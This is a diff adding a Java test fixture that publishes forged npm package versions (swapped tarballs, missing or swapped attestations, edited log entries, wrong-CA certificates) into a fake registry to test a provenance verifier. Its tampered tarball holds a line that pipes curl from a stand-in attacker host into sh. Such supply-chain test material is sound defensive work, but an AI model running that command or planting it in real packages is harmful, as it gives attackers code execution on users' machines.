@@ -1,0 +1,252 @@
+package dev.hekate.testdata.registry;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.hekate.testdata.FakeBundleBuilder;
+import dev.hekate.testdata.FakeSigstore;
+import dev.hekate.testdata.GithubExtensions;
+import dev.hekate.testdata.Tamper;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.Base64;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.Map;
+import java.util.Objects;
+import java.util.function.UnaryOperator;
+
+/**
+ * A catalogue of attacks on npm provenance, each publishing into a {@link FakeRegistry} a package
+ * version that a correct verifier must not accept as is. Every attack starts from an honest
+ * {@link GeneratedNpm} package and changes one thing; the signatures that are meant to stay valid
+ * stay valid. Each names the verifier check that should refuse it ({@link #check()}, as a check
+ * id such as {@code npm.tarball}, not a hekate-core type) and the outcome expected.
+ *
+ * <pre>{@code
+ * AttackedPackage a = NpmAttack.TAMPERED_TARBALL.publish(registry, sigstore, "victim");
+ * Verdict v = verify(registry.baseUrl(), a.name(), a.version());
+ * assertEquals(a.expected(), v.status());  // and the failed check is a.check()
+ * }</pre>
+ */
+public enum NpmAttack {
+
+  /** The registry serves other bytes than the ones dist.integrity and both attestations describe (a swapped download). */
+  TAMPERED_TARBALL("served tarball differs from dist.integrity and the attested digest",
+      "npm.tarball", ExpectedOutcome.FAILED),
+  /** dist.integrity (and the tarball served) are of a rebuilt tarball; the attestations are about the original. */
+  REGISTRY_INTEGRITY_DIFFERS("dist.integrity differs from the attested digest; the tarball matches dist.integrity",
+      "npm.integrity", ExpectedOutcome.FAILED),
+  /** Another package's valid attestations (same version) are served for this one. */
+  ATTESTATIONS_SWAPPED("the attestations are another package's, valid in themselves",
+      "npm.subject", ExpectedOutcome.FAILED),
+  /** The response has the provenance but no publish attestation. */
+  PUBLISH_MISSING("no publish attestation next to the provenance",
+      "npm.attestations", ExpectedOutcome.FAILED),
+  /** The response has the publish attestation only. */
+  PROVENANCE_MISSING("no provenance (publish attestation only)",
+      "npm.attestations (no provenance)", ExpectedOutcome.MISSING),
+  /** The attestations endpoint answers 404 and dist.attestations is absent. */
+  NO_ATTESTATIONS("no attestations at all (404)",
+      "npm.attestations (no provenance)", ExpectedOutcome.MISSING),
+  /** The provenance bundle's tlogEntries is empty. */
+  TLOG_ENTRY_REMOVED("the provenance is not in the transparency log",
+      "bundle.tlog_entries", ExpectedOutcome.FAILED),
+  /**
+   * The provenance's canonicalized body names another payload hash; nothing is re-signed, so the
+   * SET and the inclusion proof no longer match either: whichever of those checks runs first fails.
+   */
+  TLOG_ENTRY_EDITED("the provenance's log entry body was edited after logging",
+      "tlog.entry_body", ExpectedOutcome.FAILED),
+  /**
+   * The provenance statement is this package's, but the Fulcio certificate that signed it was
+   * issued to another package's release workflow (another repository); chain, SCT and log are valid.
+   */
+  CERT_FROM_OTHER_PACKAGE("the provenance is signed by a certificate for another repository",
+      "provenance.certificate", ExpectedOutcome.FAILED),
+  /** The provenance is signed with a certificate from an attacker's CA (same names, untrusted key). */
+  ATTACKER_SIGNED_ENVELOPE("the provenance is signed by a certificate from an untrusted CA",
+      "certificate.chain", ExpectedOutcome.FAILED),
+  /** 1.0.0 and 1.1.0 have provenance; 1.2.0 (latest, the target) is published without any attestations. */
+  LATER_VERSION_WITHOUT_PROVENANCE("the latest version dropped provenance that earlier versions had",
+      "npm.attestations (no provenance) + regression", ExpectedOutcome.MISSING),
+  /** The packument's unsigned repository and gitHead name another repository and commit than the provenance. */
+  REPOSITORY_MISMATCH("the registry's unsigned repository and gitHead disagree with the provenance",
+      "registry.source (finding only)", ExpectedOutcome.VERIFIED),
+  /**
+   * The response labels the publish bundle as provenance and the provenance as the publish
+   * attestation. A verifier that verifies each bundle under its label's policy before reading the
+   * statement fails earlier, at the key policy ({@code public.key}); either way it is FAILED.
+   */
+  PREDICATE_TYPE_MISLABELLED("the outer predicateType labels disagree with the signed statements",
+      "npm.attestations", ExpectedOutcome.FAILED);
+
+  /** The version attacked (LATER_VERSION_WITHOUT_PROVENANCE also publishes 1.0.0 and 1.1.0 before it). */
+  public static final String VERSION = "1.0.0";
+  static final String ATTACKER_OWNER = "hekate-attacker";
+
+  private final String breaks;
+  private final String check;
+  private final ExpectedOutcome expected;
+
+  NpmAttack(String breaks, String check, ExpectedOutcome expected) {
+    this.breaks = breaks;
+    this.check = check;
+    this.expected = expected;
+  }
+
+  /** What the attack breaks, in a few words. */
+  public String breaks() {
+    return breaks;
+  }
+
+  /** The verifier check that should refuse it, e.g. {@code npm.tarball} (MISSING and finding cases say so). */
+  public String check() {
+    return check;
+  }
+
+  /** What a correct verifier concludes. */
+  public ExpectedOutcome expected() {
+    return expected;
+  }
+
+  /** Whether the verifier should also report a provenance regression (earlier versions had provenance). */
+  public boolean regression() {
+    return this == LATER_VERSION_WITHOUT_PROVENANCE;
+  }
+
+  /** Publishes the attack on {@code name} in the current generation ({@link BundleGeneration#V03_DSSE}). */
+  public AttackedPackage publish(FakeRegistry registry, FakeSigstore sigstore, String name) {
+    return publish(registry, sigstore, name, BundleGeneration.V03_DSSE);
+  }
+
+  /**
+   * Publishes the attack on {@code name} with bundles of {@code generation}.
+   *
+   * @return the attacked version and the honest package it was derived from
+   */
+  public AttackedPackage publish(FakeRegistry registry, FakeSigstore sigstore, String name, BundleGeneration generation) {
+    Objects.requireNonNull(registry, "registry");
+    Instant now = sigstore.now();
+    String version = this == LATER_VERSION_WITHOUT_PROVENANCE ? "1.2.0" : VERSION;
+    GeneratedPackage honest = switch (this) {
+      case TLOG_ENTRY_REMOVED -> GeneratedNpm.mint(sigstore, name, version, generation, now,
+          b -> b.tamper(Tamper.NO_TLOG_ENTRY));
+      case ATTACKER_SIGNED_ENVELOPE -> GeneratedNpm.mint(sigstore, name, version, generation, now,
+          b -> b.tamper(Tamper.UNTRUSTED_CA));
+      case CERT_FROM_OTHER_PACKAGE -> GeneratedNpm.mint(sigstore, name, version, generation, now,
+          otherPackagesCertificate(name, version));
+      default -> GeneratedNpm.generate(sigstore, name, version, generation, now);
+    };
+    PackageVersion.Builder served = honest.packageVersion();
+    switch (this) {
+      case TAMPERED_TARBALL -> served.tarballOverride(rebuilt(name, version));
+      case REGISTRY_INTEGRITY_DIFFERS -> served.tarball(rebuilt(name, version));
+      case ATTESTATIONS_SWAPPED -> served.attestations(
+          GeneratedNpm.generate(sigstore, otherName(name), version, generation, now).attestations());
+      case PUBLISH_MISSING -> served.attestations(FakeSigstore.npmAttestationsResponse(honest.provenance()));
+      case PROVENANCE_MISSING -> served.attestations(FakeSigstore.npmAttestationsResponse(honest.publish()));
+      case NO_ATTESTATIONS, LATER_VERSION_WITHOUT_PROVENANCE -> served.noAttestations();
+      case TLOG_ENTRY_EDITED -> served.attestations(GeneratedNpm.response(List.of(
+          Map.entry(honest.publish().predicateType().orElseThrow(), honest.publish().json()),
+          Map.entry(honest.provenance().predicateType().orElseThrow(), editLogBody(honest.provenance().json())))));
+      case REPOSITORY_MISMATCH -> served
+          .gitHead(GeneratedNpm.commitOf(otherName(name), version))
+          .repositoryUrl("git+https://github.com/" + ATTACKER_OWNER + "/" + repositoryName(name) + ".git");
+      case PREDICATE_TYPE_MISLABELLED -> served.attestations(GeneratedNpm.response(List.of(
+          Map.entry(honest.provenance().predicateType().orElseThrow(), honest.publish().json()),
+          Map.entry(honest.publish().predicateType().orElseThrow(), honest.provenance().json()))));
+      case TLOG_ENTRY_REMOVED, ATTACKER_SIGNED_ENVELOPE, CERT_FROM_OTHER_PACKAGE -> { }
+    }
+    if (this == LATER_VERSION_WITHOUT_PROVENANCE) {
+      GeneratedNpm.publishVerified(registry, sigstore, name, "1.0.0", generation, now.minus(Duration.ofDays(60)));
+      GeneratedNpm.publishVerified(registry, sigstore, name, "1.1.0", generation, now.minus(Duration.ofDays(30)));
+    }
+    registry.publish(served.build());
+    return new AttackedPackage(this, name, version, honest);
+  }
+
+  /** The package whose attestations or certificate an attack borrows. */
+  static String otherName(String name) {
+    return name + "-other";
+  }
+
+  private static String repositoryName(String name) {
+    String repository = GeneratedNpm.repositoryOf(name);
+    return repository.substring(repository.lastIndexOf('/') + 1);
+  }
+
+  /** The same package rebuilt with other code: a valid tarball, but not the attested one. */
+  private static byte[] rebuilt(String name, String version) {
+    return GeneratedNpm.tarball(name, version,
+        "require('child_process').exec('curl https://hekate-attacker.test | sh');\n");
+  }
+
+  private static UnaryOperator<FakeBundleBuilder> otherPackagesCertificate(String name, String version) {
+    String otherIdentity = GeneratedNpm.workflowIdentity(otherName(name), version);
+    GithubExtensions other = GithubExtensions.forWorkflow(otherIdentity, GeneratedNpm.commitOf(otherName(name), version));
+    // npmProvenance already wrote this package's statement; only the certificate changes.
+    return b -> b.identity(otherIdentity, FakeBundleBuilder.GITHUB_ISSUER).githubExtensions(other);
+  }
+
+  /**
+   * The bundle with its first tlog entry's body naming another payload hash. The body is
+   * re-encoded canonically; the SET, inclusion proof and checkpoint are left as they were.
+   */
+  static byte[] editLogBody(byte[] bundleJson) {
+    ObjectNode bundle = (ObjectNode) RegistryJson.parse(bundleJson);
+    ObjectNode entry = (ObjectNode) bundle.at("/verificationMaterial/tlogEntries/0");
+    byte[] body = Base64.getDecoder().decode(entry.path("canonicalizedBody").asText());
+    JsonNode parsed = RegistryJson.parse(body);
+    String fake = HexFormat.of().formatHex(RegistryJson.sha256(
+        "hekate-attacker: another payload".getBytes(StandardCharsets.UTF_8)));
+    if (!replacePayloadHash(parsed, fake)) {
+      throw new IllegalArgumentException("the log entry body has no payloadHash to edit");
+    }
+    entry.put("canonicalizedBody", Base64.getEncoder().encodeToString(RegistryJson.canonical(parsed)));
+    return RegistryJson.compact(bundle);
+  }
+
+  private static boolean replacePayloadHash(JsonNode node, String hex) {
+    if (node instanceof ObjectNode object) {
+      JsonNode hash = object.get("payloadHash");
+      if (hash instanceof ObjectNode h) {
+        if (h.has("value")) {
+          h.put("value", hex);
+        } else {
+          h.put("digest", Base64.getEncoder().encodeToString(HexFormat.of().parseHex(hex)));
+        }
+        return true;
+      }
+    }
+    for (JsonNode child : node) {
+      if (replacePayloadHash(child, hex)) {
+        return true;
+      }
+    }
+    return false;
+  }
+
+  /**
+   * One published attack: the version a verifier should be asked about, and the honest package the
+   * attack was derived from (its trust material, its genuine tarball and bundles).
+   */
+  public record AttackedPackage(NpmAttack attack, String name, String version, GeneratedPackage honest) {
+    public AttackedPackage {
+      Objects.requireNonNull(attack, "attack");
+      Objects.requireNonNull(name, "name");
+      Objects.requireNonNull(version, "version");
+      Objects.requireNonNull(honest, "honest");
+    }
+
+    /** {@link NpmAttack#expected()}. */
+    public ExpectedOutcome expected() {
+      return attack.expected();
+    }
+
+    /** {@link NpmAttack#check()}. */
+    public String check() {
+      return attack.check();
+    }
+  }
+}
